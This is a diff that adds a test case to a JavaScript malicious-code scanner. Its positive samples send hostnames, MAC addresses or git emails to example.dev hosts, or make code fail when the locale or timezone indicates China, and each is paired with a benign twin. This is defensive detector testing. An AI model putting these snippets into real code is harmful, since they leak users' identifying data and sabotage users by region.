@@ -367,6 +367,29 @@ describe('engine: value flow through carriers and module systems', () => {
     assert.deepStrictEqual(sent(program('other')).map((f) => f.message), [], 'another storage holds a constant');
   });
 
+  it('follows ordinary idioms: then(), default parameters, emits inside a subclass, exec(), Intl.Locale, POSIX locales, ws, Headers, sort(), a git key handed to a wrapper', () => {
+    const TZ = 'Intl.DateTimeFormat().resolvedOptions().timeZone';
+    // [idiom, rule, positive, benign twin]: the twin differs only in what makes it ordinary.
+    const cases: [string, string, string, string][] = [
+      ['then', 'env-gated-behavior', `Promise.resolve(${TZ}).then((zone) => { if (zone === "Asia/Shanghai") process.exit(1); });`, `Promise.resolve("UTC").then((zone) => { if (zone === "Asia/Shanghai") process.exit(1); });`],
+      ['default parameter (decision)', 'env-gated-behavior', `function build(m, zone = ${TZ}) { if (zone === "Asia/Shanghai") process.exit(1); }\nbuild([]);`, `function build(m, zone = ${TZ}) { if (zone === "Asia/Shanghai") process.exit(1); }\nbuild([], "UTC");`],
+      ['default parameter (identity)', 'host-identity-sent', `const os = require("os");\nfunction send(host = os.hostname()) { fetch("https://t.example.dev/v1", { method: "POST", body: JSON.stringify({ host }) }); }\nsend();`, `const os = require("os");\nfunction send(host = os.hostname()) { console.log(host); fetch("https://t.example.dev/v1", { method: "POST", body: "{}" }); }\nsend();`],
+      ['this.emit in a subclass', 'host-identity-sent', `const { EventEmitter } = require("events");\nconst { execSync } = require("child_process");\nclass W extends EventEmitter { load() { this.emit("id", execSync("git config user.email", { encoding: "utf8" })); this.emit("other", "x"); } }\nconst w = new W();\nw.on("id", (a) => fetch("https://t.example.dev/r", { method: "POST", body: JSON.stringify({ a }) }));\nw.load();`, `const { EventEmitter } = require("events");\nconst { execSync } = require("child_process");\nclass W extends EventEmitter { load() { this.emit("id", execSync("git config user.email", { encoding: "utf8" })); this.emit("other", "x"); } }\nconst w = new W();\nw.on("other", (a) => fetch("https://t.example.dev/r", { method: "POST", body: JSON.stringify({ a }) }));\nw.load();`],
+      ['exec', 'env-gated-behavior', `const m = /_([A-Z]{2})/.exec(process.env.LANG || "");\nif (m && m[1] === "CN") throw new Error("unavailable in your region");`, `const m = /_([A-Z]{2})/.exec(process.argv[2] || "");\nif (m && m[1] === "CN") throw new Error("unavailable in your region");`],
+      ['Intl.Locale', 'env-gated-behavior', `const loc = new Intl.Locale(Intl.DateTimeFormat().resolvedOptions().locale);\nif (loc.region === "CN") throw new Error("unavailable");`, `const loc = new Intl.Locale(process.argv[2] || "en-US");\nif (loc.region === "CN") throw new Error("unavailable");`],
+      ['POSIX locale', 'env-gated-behavior', `if (process.env.LANG === "zh_CN.UTF-8") throw new Error("unavailable in your region");`, `if (process.env.LANG === "C.UTF-8") throw new Error("unavailable in your region");`],
+      ['ws', 'host-identity-sent', `const os = require("os");\nconst WebSocket = require("ws");\nconst ws = new WebSocket("wss://live.example.dev/socket");\nws.on("open", () => ws.send(JSON.stringify({ host: os.hostname() })));`, `const os = require("os");\nconst WebSocket = require("ws");\nconst ws = new WebSocket("wss://live.example.dev/socket");\nconsole.log(os.hostname());\nws.on("open", () => ws.send(JSON.stringify({ host: "cli" })));`],
+      ['Headers', 'host-identity-sent', `const os = require("os");\nfetch("https://t.example.dev/v1", { headers: new Headers({ "x-host": os.hostname() }) });`, `const os = require("os");\nconst h = new Headers({ "x-host": os.hostname() });\nfetch("https://t.example.dev/v1", { headers: new Headers({ "x-host": "cli" }) });`],
+      ['sort', 'host-identity-sent', `const os = require("os");\nconst macs = Object.values(os.networkInterfaces()).flat().map((i) => i.mac);\nfetch("https://t.example.dev/v1", { headers: { "x-device-id": macs.sort().join(",") } });`, `const os = require("os");\nconst macs = Object.values(os.networkInterfaces()).flat().map((i) => i.mac);\nconsole.log(macs.sort().join(","));\nfetch("https://t.example.dev/v1", { headers: { "x-device-id": "cli" } });`],
+      ['git key handed to a wrapper', 'host-identity-sent', "const { execSync } = require(\"child_process\");\nfunction gitConfig(key) { return execSync(`git config --get ${key}`).toString().trim(); }\nfetch(\"https://t.example.dev/v1\", { headers: { \"x-user\": gitConfig(\"user.email\") } });", "const { execSync } = require(\"child_process\");\nfunction gitConfig(key) { return execSync(`git config --get ${key}`).toString().trim(); }\nfetch(\"https://t.example.dev/v1\", { headers: { \"x-editor\": gitConfig(\"core.editor\") } });"],
+    ];
+    for (const [idiom, rule, positive, benign] of cases) {
+      const hits = (code: string) => loud(scan(code)).filter((f) => f.ruleId === rule);
+      assert.strictEqual(hits(positive).length, 1, `${idiom}: ${loud(scan(positive)).map((f) => f.message).join(' | ')}`);
+      assert.deepStrictEqual(hits(benign).map((f) => f.message), [], `${idiom}: the twin`);
+    }
+  });
+
   it('carries a record through spreads and fallbacks into the body it sends', () => {
     const found = scan(`
       const os = require("os");
